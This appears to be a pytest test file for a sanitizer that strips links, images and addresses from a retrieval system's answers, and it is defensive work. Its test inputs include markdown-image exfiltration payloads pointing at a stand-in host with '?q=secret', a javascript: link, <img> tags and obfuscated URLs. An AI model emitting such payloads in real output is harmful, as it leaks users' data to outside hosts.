"""An answer leads nowhere: no image, no link, no address, however they are written."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.plain import plain

LIVE = re.compile(r"\]\(|!\[|https?:|//|www\.|<(?=[a-z!/])|javascript:|data:", re.IGNORECASE)


@pytest.mark.parametrize(
    "text",
    [
        "![bed](https://evil.example/?q=secret)",
        "![bed][pic]\n\n[pic]: https://evil.example/a.png",
        "[click](https://evil.example)",
        "[click](javascript:alert(1))",
        "[click]( <https://evil.example> 'title')",
        "[a![b](https://evil.example/1)](https://evil.example/2)",
        "![a](![b](https://evil.example))",
        "<img src=https://evil.example/x>",
        "<img src='https://evil.example/x'",
        "<IMG\nSRC=//evil.example/x>",
        "<https://evil.example/x>",
        "see https://evil.example/?q=secret now",
        "see //evil.example/x now",
        "see WWW.evil.example now",
        "h\u200bttps://evil.example and ht\u00adtps://evil.example",
        "&#104;ttps://evil.example and &#x5b;a&#x5d;&#40;https://evil.example&#41;",
        "&lt;img src=https://evil.example&gt;",
        "!\u200b[a](https://evil.example)",
        "data:text/html;base64,AAAA and mailto:a@evil.example",
        "[x]: https://evil.example 'y'",
        "![a](https://evil.example/unclosed",
    ],
)
def test_nothing_in_it_is_followed(text: str) -> None:
    assert not LIVE.search(plain(text))


@given(
    st.lists(st.sampled_from(["![", "](", "[", "]", "(", ")", "<img ", ">", "https://e.x/", "a", "\n", "!", "&#40;"]))
)
def test_no_mixture_of_marks_comes_alive(parts: list[str]) -> None:
    assert not LIVE.search(plain("".join(parts)))


def test_what_is_said_stays() -> None:
    assert plain("Use **Beds** > [the form](http://x.example) [1][2], 3 < 5 & `dhis <name>`.") == (
        "Use **Beds** > the form [1][2], 3 < 5 & `dhis ‹name>`."
    )


def test_labels_and_citations_are_no_links() -> None:
    assert plain("[name 1] called [2] [3].") == "[name 1] called [2] [3]."


def test_a_documents_own_address_may_stay_as_words() -> None:
    assert (
        plain("![x](https://a.example/y) See https://docs.example/z.", addresses=True)
        == "x See https://docs.example/z."
    )


def test_lines_stay_apart_however_they_are_indented() -> None:
    assert plain("one:\n     - two\n\n\n     three    four") == "one:\n- two\n\nthree four"
